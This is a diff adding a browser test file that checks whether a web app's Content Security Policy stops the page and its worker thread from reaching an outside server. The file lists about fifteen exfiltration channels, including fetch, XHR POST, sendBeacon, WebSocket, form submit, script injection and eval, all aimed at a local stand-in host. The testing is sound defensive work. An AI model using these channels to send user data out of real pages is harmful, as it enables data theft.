@@ -1,0 +1,134 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { chooseFiles, waitForVerdict } from "./support/add-documents.js";
+import { describeInBrowser, getServer, openApp } from "./support/open-app.js";
+
+/** Somebody else, who counts who comes. */
+let stranger: Server;
+let address: string;
+const visits: string[] = [];
+
+beforeAll(async () => {
+  stranger = createServer(({ url = "" }, answer) => {
+    visits.push(url);
+    answer.writeHead(200, { "access-control-allow-origin": "*" }).end("// hello");
+  });
+  stranger.on("upgrade", ({ url }, socket) => {
+    visits.push(url ?? "");
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
+  address = `127.0.0.1:${(stranger.address() as AddressInfo).port}`;
+});
+afterAll(() => void stranger.close());
+
+/** Ways out that a page has. Each is tried in the page; none may arrive. */
+const WAYS: Record<string, (host: string) => unknown> = {
+  fetch: (host) => fetch(`http://${host}/fetch`),
+  "fetch without cors": (host) => fetch(`http://${host}/opaque`, { mode: "no-cors" }),
+  XMLHttpRequest: (host) => {
+    const request = new XMLHttpRequest();
+    request.open("POST", `http://${host}/xhr`);
+    request.send("a document");
+  },
+  WebSocket: (host) => new WebSocket(`ws://${host}/socket`),
+  EventSource: (host) => new EventSource(`http://${host}/events`),
+  sendBeacon: (host) => navigator.sendBeacon(`http://${host}/beacon`, "a document"),
+  image: (host) => {
+    new Image().src = `http://${host}/image`;
+  },
+  script: (host) => {
+    const script = document.createElement("script");
+    script.src = `http://${host}/script`;
+    document.head.append(script);
+  },
+  style: (host) => {
+    const link = document.createElement("link");
+    link.rel = "stylesheet";
+    link.href = `http://${host}/style`;
+    document.head.append(link);
+  },
+  frame: (host) => {
+    const frame = document.createElement("iframe");
+    frame.src = `http://${host}/frame`;
+    document.body.append(frame);
+  },
+  form: (host) => {
+    const form = document.createElement("form");
+    form.action = `http://${host}/form`;
+    document.body.append(form);
+    form.submit();
+  },
+  "dynamic import": (host) => import(/* @vite-ignore */ `http://${host}/module`),
+  worker: (host) => new Worker(`http://${host}/worker`),
+  "inline script": (host) => {
+    const script = document.createElement("script");
+    script.textContent = `fetch("http://${host}/inline")`;
+    document.head.append(script);
+  },
+  eval: (host) => {
+    // biome-ignore lint/security/noGlobalEval: the page must not be able to.
+    globalThis.eval(`fetch("http://${host}/eval")`);
+  },
+};
+
+/** What the engine's thread has of these. */
+const THREAD_WAYS: Record<string, (host: string) => unknown> = {
+  fetch: WAYS.fetch!,
+  XMLHttpRequest: WAYS.XMLHttpRequest!,
+  WebSocket: WAYS.WebSocket!,
+  "dynamic import": WAYS["dynamic import"]!,
+};
+
+/** Tries a way, and something harmless after it, so that both had their time. */
+async function attempt(page: Page, way: (host: string) => unknown): Promise<void> {
+  await page.evaluate(way, address).catch(() => {});
+  await page.evaluate(() => fetch("icon.svg").then((answer) => answer.text()));
+}
+
+describeInBrowser("the page's policy", () => {
+  test("is the server's, and is in the page for other servers", async () => {
+    const { page, url, close } = await openApp();
+    const header = (await page.request.get(url)).headers()["content-security-policy"];
+    const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
+    expect(header).toBe(`${await meta.getAttribute("content")}; frame-ancestors 'none'`);
+    expect(header).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self'; /);
+    await close();
+  });
+
+  test("lets nothing out to anybody else, whatever the page tries", async () => {
+    const { page, close } = await openApp({ expected: /./ });
+    for (const way of Object.values(WAYS)) await attempt(page, way);
+    expect(visits).toEqual([]);
+    expect(page.url().startsWith((await getServer()).url)).toBe(true);
+    await close();
+  });
+
+  test("lets nothing out of the engine's thread", async () => {
+    const { page, close } = await openApp({ expected: /./ });
+    await chooseFiles(page, [{ name: "a.md", content: "# A\n\nText.\n" }]);
+    await waitForVerdict(page);
+    const [thread] = page.workers();
+    expect(thread?.url()).toMatch(/engine\.worker/);
+    for (const way of Object.values(THREAD_WAYS)) {
+      await thread?.evaluate(way, address).catch(() => {});
+    }
+    const own = await thread?.evaluate(() => fetch("../icon.svg").then(({ status }) => status));
+    expect(own).toBe(200);
+    expect(visits).toEqual([]);
+    await close();
+  });
+
+  test("the check itself: without a policy, a stranger is reached", async () => {
+    const { page, context, close } = await openApp({ expected: /./ });
+    const other = await context.newPage();
+    await other.goto(`http://${address}/page`);
+    await attempt(other, WAYS.fetch!).catch(() => {});
+    expect(visits).toContain("/fetch");
+    visits.length = 0;
+    await page.close();
+    await close();
+  });
+});
